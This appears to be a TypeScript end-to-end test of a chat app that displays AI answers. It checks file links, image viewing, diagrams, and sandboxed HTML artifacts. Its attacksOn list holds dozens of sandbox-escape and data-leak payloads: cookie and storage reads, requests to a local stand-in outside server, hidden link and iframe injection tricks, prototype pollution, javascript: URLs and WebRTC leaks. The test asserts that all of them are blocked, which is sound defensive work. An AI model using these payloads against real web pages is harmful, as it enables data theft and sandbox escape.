/** What an answer names and makes: links, diagrams, and HTML with scripts, which can reach nothing. */
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createSocket } from 'node:dgram'
import { join } from 'node:path'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { startApp } from '../../_app.ts'
import { openPage } from '../../_browser.ts'

const test = suite('page: artifacts')

/** Counts every connection and datagram that reaches it. */
const openOutside = async () => {
  const seen: string[] = []
  const server = createServer((request, response) => {
    seen.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*').end()
  })
  server.on('connection', () => seen.push('connection'))
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const socket = createSocket('udp4')
  socket.on('message', () => seen.push('datagram'))
  await new Promise<void>(resolve => socket.bind(0, '127.0.0.1', resolve))
  return {
    seen,
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    udpPort: socket.address().port,
    close: () => {
      server.close()
      socket.close()
    },
  }
}

/** Code that must throw, return nothing, and have no effect. */
const attacksOn = (app: string, far: string, udpPort: number): Record<string, string> => ({
  cookie: 'return document.cookie',
  storage: 'return localStorage.length',
  database: 'indexedDB.open("x"); return "opened"',
  parent: 'return parent.document.title',
  top: `top.location = '${far}/top'; return 'moved'`,
  popup: `return open('${far}/popup') && 'opened'`,
  'full screen': 'await document.documentElement.requestFullscreen(); return "full"',
  api: `return (await fetch('${app}/api/sessions', { credentials: 'include' })).status`,
  'api without credentials': `return (await fetch('${app}/api/sessions', { credentials: 'omit', mode: 'no-cors' })).type`,
  fetch: `return (await fetch('${far}/fetch', { mode: 'no-cors' })).type`,
  beacon: `navigator.sendBeacon('${far}/beacon')`,
  socket: `new WebSocket('${far.replace('http', 'ws')}/socket')`,
  events: `new EventSource('${far}/events')`,
  image: `new Image().src = '${far}/image'`,
  style: `document.body.style.background = 'url(${far}/style)'`,
  link: `return document.createElement('link') && 'made'`,
  'link in the document': `return document.querySelector('link') && 'parsed'`,
  'link by a namespace': `Object.defineProperty(Object.prototype, 'localName', { get: () => 'p' }); return document.createElementNS('http://www.w3.org/1999/xhtml', 'link') && 'made'`,
  'link by markup': `document.body.insertAdjacentHTML('beforeend', '<Li' + 'Nk rel=preconnect href=${far}>'); return 'parsed'`,
  'link by a prefix': `new DOMParser().parseFromString('<h:link xmlns:h="http://www.w3.org/1999/xhtml"/>', 'text/xml'); return 'parsed'`,
  'link by a custom element': `class Own extends HTMLLinkElement {} customElements.define('x-y', Own, { extends: 'link' }); return new Own() && 'made'`,
  'link by a sanitizer': `document.createElement('p').setHTML('<li' + 'nk>', { sanitizer: { elements: ['link'] } }); return 'parsed'`,
  script: `document.body.append(Object.assign(document.createElement('script'), { src: '${far}/script' }))`,
  module: `await import('${far}/module')`,
  worker: `new Worker('${far}/worker')`,
  frame: `document.body.append(Object.assign(document.createElement('iframe'), { src: '${far}/frame' }))`,
  form: `const form = document.createElement('form'); form.action = '${far}/form'; document.body.append(form); form.submit()`,
  rules: `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.text = '{"prefetch":[{"source":"list","urls":["${far}/rules"]}]}'; document.body.append(rules)`,
  rtc: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); return 'gathering'`,
  'rtc of an empty frame': `const frame = document.createElement('iframe'); document.body.append(frame); return typeof frame.contentWindow.RTCPeerConnection`,
  'nested frame': `const frame = document.createElement('iframe'); frame['src' + 'doc'] = '<p>x'; document.body.append(frame); return 'nested'`,
  'nested frame by attribute': `const one = document.createAttribute('src' + 'doc'); one.value = 'x'; document.createElement('iframe').setAttributeNode(one); return 'nested'`,
  'nested frame by markup': `String.prototype.replace = function () { return this }; document.body.innerHTML = '<iframe sRc' + 'dOc=x></iframe>'; return 'nested'`,
  'nested frame in pieces': `document.write('<iframe src'); document.write('doc=x></iframe>'); return 'written'`,
  'nested frame by an entity': `new DOMParser().parseFromString('<!DOCTYPE x [<!EN' + 'TITY e "x">]><x>&e;</x>', 'text/xml'); return 'parsed'`,
  'document by a script URL': `location.href = 'javascript:"<script>parent.postMessage(\\'ran\\', \\'*\\')<\\/script>"'`,
  'document by a blob URL': `location.href = URL.createObjectURL(new Blob(['x'], { type: 'text/html' })); return 'opened'`,
  'file on the disk': `Object.assign(document.createElement('a'), { download: 'x', href: 'data:,x' }).click()`,
})

const attackPage = (
  attacks: Record<string, string>,
): string => `<!doctype html><link rel="preconnect" href="http://127.0.0.1:1"><body>
<pre id="report"></pre><script>
const report = []
const attacks = { ${Object.entries(attacks).map(
  ([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`,
)} }
addEventListener('message', event => report.push('message: ' + event.data));
(async () => {
  const pre = document.getElementById('report')
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      const result = await attack()
      if (result) report.push(name + ': ' + result)
    } catch {
      // Refused, as it should be.
    }
    if (!document.body.contains(pre)) document.body.append(pre)
  }
  pre.textContent = 'done ' + report.join(', ')
})()
</script>`

test('links what an answer names, draws its diagrams, and isolates its scripts', async () => {
  const app = await startApp()
  const outside = await openOutside()
  try {
    const workspace = join(app.userHome, 'project')
    mkdirSync(join(workspace, 'src'), { recursive: true })
    writeFileSync(join(workspace, 'src', 'a.ts'), 'one\n'.repeat(60))
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"/>'
    writeFileSync(join(workspace, 'one.svg'), svg)
    const attacks = attacksOn(app.url, outside.url, outside.udpPort)
    writeFileSync(join(workspace, 'attack.html'), attackPage(attacks))
    const { body } = await app.post('/api/session/import', {
      workspace,
      title: 'Named',
      messages: [
        { role: 'user', content: 'go' },
        {
          role: 'assistant',
          content: `See \`src/a.ts:40-42\`, \`src/missing.ts\`, [bank.example](https://evil.example/).\n\n![first](one.svg) ![second](one.svg) ![gone](two.svg)\n\n\`\`\`mermaid\nflowchart LR\n  A[Begin] --> B[End]\n\`\`\`\n\n\`\`\`html\n<p id=out>off</p><button onclick="out.textContent='pressed'">Press</button>\n\`\`\``,
        },
      ],
    })
    const session = body.session.session_id
    const at = await openPage(`${app.url}/session/${session}`)
    const { page } = at

    // Only what exists is a link, and a link says where it leads.
    await page.getByRole('link', { name: 'src/a.ts:40-42' }).click()
    await page.locator('.text-mark').waitFor()
    assert.is(await page.locator('.text-mark').evaluate(mark => mark.clientHeight), 60)
    assert.is(await page.getByRole('link', { name: 'src/missing.ts' }).count(), 0)
    await page.getByText('(evil.example)').waitFor()

    // Images of the workspace open in full size, by keyboard, and the focus returns.
    await page.getByRole('button', { name: 'first' }).focus()
    await page.keyboard.press('Enter')
    const box = page.getByRole('dialog', { name: 'Image 1 of 2' })
    await box.getByRole('img', { name: 'first' }).waitFor()
    await page.keyboard.press('ArrowRight')
    await page.getByRole('dialog', { name: 'Image 2 of 2' }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    const focused = await page.evaluate(() => document.activeElement?.querySelector('img')?.alt)
    assert.is(focused, 'first')
    assert.is(await page.getByRole('img', { name: 'gone' }).count(), 0)

    // A diagram is drawn without being asked for.
    await page.waitForFunction(
      () => document.querySelector('.md-diagram-drawn')?.shadowRoot?.querySelector('svg') != null,
    )

    // HTML of an answer runs beside the chat, or in its place, below our own head.
    await page.locator('.md-code').nth(1).getByRole('button', { name: 'Open' }).click()
    const frame = page.frameLocator('iframe.frame-view')
    await frame.getByRole('button', { name: 'Press' }).click()
    await frame.getByText('pressed').waitFor()
    await page.getByRole('button', { name: 'Expand' }).click()
    assert.ok(await page.getByRole('button', { name: 'Stop' }).isVisible())
    await page.getByRole('button', { name: 'Show beside the chat' }).click()
    assert.equal(await at.axe(), [])
    assert.equal(at.problems, [])
    // A file runs only when it is asked to, and is not running after a reload.
    await page.goto(`${app.url}/session/${session}?file=attack.html`)
    await page.getByRole('button', { name: 'Run' }).click()
    await frame.getByText(/^done/).waitFor()
    assert.is(await frame.locator('#report').textContent(), 'done ')
    // The page's own policy refuses to load another document into the frame.
    const refused = page.waitForEvent('console', line => /frame-src/.test(line.text()))
    await frame.locator('body').evaluate((_, url) => {
      location.href = `${url}/navigation`
    }, outside.url)
    await refused
    assert.equal(outside.seen, [])
    assert.is(page.context().pages().length, 1)
    assert.match(page.url(), app.url)
    await page.reload()
    await page.getByRole('button', { name: 'Run' }).waitFor()

    // An endless loop occupies a process of its own: the page still works, and can stop it.
    writeFileSync(join(workspace, 'attack.html'), '<script>for (;;) {}</script>')
    await page.reload()
    await page.getByRole('button', { name: 'Run' }).click()
    await page.locator('iframe[sandbox="allow-scripts"]').waitFor()
    await page.getByRole('textbox', { name: 'Message' }).fill('still here')
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByRole('button', { name: 'Run' }).waitFor()

    // The document is the same for everyone, and no other site or page can frame it.
    const empty = await app.get('/artifact')
    const policy = `${empty.headers['content-security-policy']}`
    assert.match(policy, /^sandbox allow-scripts; default-src 'none';/)
    assert.match(policy, "frame-ancestors 'self'")
    assert.is(empty.headers['x-frame-options'], 'DENY')
    await at.close()
  } finally {
    outside.close()
    await app.close()
  }
})

test.run()
